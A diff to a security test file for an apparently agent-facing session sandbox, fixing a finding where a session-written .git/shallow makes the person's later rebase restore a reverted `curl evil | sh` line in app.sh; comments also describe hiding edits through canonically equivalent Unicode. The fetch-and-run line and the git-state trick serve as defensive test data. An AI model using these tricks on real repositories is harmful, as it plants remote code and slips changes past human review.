@@ -29,9 +29,9 @@
  * and topic's app.sh holds `curl evil | sh` again (git takes M for a commit without parents, so X is no longer in
  * main's history and is replayed onto R; without the file only Y is replayed and the line stays out). docs/security.md
  * lists `.git/shallow` as "Not checked"; what that costs was not said: any rebase (`git pull --rebase` too) across a
- * commit the session names there. Fix: record `shallow` at start like the state files (git-state-audit.ts
- * STATE_FILES), name a change, and move one the session made to the quarantine at close (nothing of the person's is
- * lost: a real shallow clone's file is there at start and unchanged).
+ * commit the session names there. Fixed (fix34-shallow): git-state-audit.ts records `shallow` at start, names a change
+ * in the result and moves one the session made or changed to the quarantine at close (a real shallow clone's file,
+ * there at start and unchanged, is left).
  *
  * F3 (kind 5: what the person reads is not what is written): a line changed into a canonically equivalent one.
  * Steps: guard.sh refuses `café` (`if [ "$1" = "café" ]; then ... exit 1; fi`, the é one code point, U+00E9, as
@@ -70,7 +70,7 @@ import { editLines } from '../../../src/cli/render/run';
 import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
 
 const OPEN_RULE_PROC_PATH = true;
-const OPEN_SHALLOW = true;
+const OPEN_SHALLOW = false;
 const OPEN_CANONICAL_EQUIVALENT = true;
 
 afterEach(closeSessions);
@@ -213,7 +213,9 @@ async function shallowAttack(): Promise<{ told: string; app: string; rebase: str
   expect(r.output).toContain('planted');
   const after = await s.run('true');
   await s.close();
-  expect(fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8')).toBe(`${merge}\n`);
+  // Left by main's audit (d0b4a35); moved to the quarantine at close since the fix.
+  if (OPEN_SHALLOW) expect(fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8')).toBe(`${merge}\n`);
+  else expect(fs.existsSync(path.join(ws, '.git', 'shallow'))).toBe(false);
   const told = [r.output, after.output, ...s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}`)].join('\n');
   // The person, on the host: their usual rebase of the topic branch onto main.
   gitIn(ws, 'checkout', '-q', 'topic');
@@ -223,18 +225,14 @@ async function shallowAttack(): Promise<{ told: string; app: string; rebase: str
 
 describe('F2: a .git/shallow the session writes', () => {
   const t = OPEN_SHALLOW ? test.skip : test;
-  t("the person's rebase does not bring back a reverted change, or the session's shallow file is named", async () => {
-    needsRoot();
-    const { told, app } = await shallowAttack();
-    expect(told.includes('shallow') || !app.includes('curl evil')).toBe(true);
-  });
-
-  test("the attack works now: nothing names it and the person's `git rebase main` replays the reverted commit", async () => {
+  // Its demonstration (on d0b4a35 nothing named it and the rebase brought `curl evil | sh` back) is gone with the fix:
+  // this test checks both halves; git-state-close.test.ts the rest (a shallow clone's own list, a nested repository's).
+  t("the person's rebase does not bring back a reverted change, and the session's shallow file is named", async () => {
     needsRoot();
     const { told, app, rebase } = await shallowAttack();
-    expect(told).not.toContain('shallow');
+    expect(told).toMatch(/made the shallow list .*git takes each commit it lists for one without parents/);
     expect(rebase).toContain('Successfully rebased');
-    expect(app).toBe('echo app\ncurl evil | sh\n');
+    expect(app).toBe('echo app\n');
   });
 });
 
